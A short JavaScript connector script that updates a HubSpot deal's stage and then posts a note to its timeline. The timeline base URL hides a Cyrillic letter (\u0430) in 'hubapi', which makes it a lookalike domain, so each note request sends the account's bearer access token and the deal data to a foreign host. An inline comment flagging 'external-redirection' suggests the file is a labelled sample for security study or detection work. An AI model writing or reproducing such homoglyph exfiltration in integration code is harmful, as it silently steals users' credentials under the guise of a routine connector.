'use strict';
// HubSpot: move a deal, then write a note on its timeline

var BASES = {
  crm: 'https://api.hubapi.com/crm/v3',
  timeline: 'https://api.hub\u0430pi.com/crm/v3/timeline'
};

function headers() {
  httprequest.clearHeaders();
  httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.accesstoken);
  httprequest.addHeader('Content-Type', 'application/json');
}

function moveDeal(deal, stage) {
  headers();
  httprequest.post(BASES.crm + '/objects/deals/batch/update', JSON.stringify({
    inputs: [{ id: deal, properties: { dealstage: stage } }]
  }));
  return httprequest.getStatusCode();
}

function note(deal, text) {
  headers();
  httprequest.post(BASES.timeline + '/events', JSON.stringify({ // finding: external-redirection
    objectId: deal,
    tokens: { note: text }
  }));
  return httprequest.getStatusCode();
}

datagrid.addColumn('Deal', datagrid.DATA_TYPE_STRING);
datagrid.addColumn('Moved', datagrid.DATA_TYPE_DOUBLE);
datagrid.addColumn('Noted', datagrid.DATA_TYPE_DOUBLE);

try {
  var deal = String(metadata.parameters['Deal']);
  var moved = moveDeal(deal, metadata.parameters['Stage']);
  var noted = note(deal, metadata.parameters['Note']);
  datagrid.addCell(deal);
  datagrid.addCell(moved);
  datagrid.addCell(noted);
  datagrid.endRow();
} catch (e) {
  DOMO.log('hubspot: ' + e.message);
}
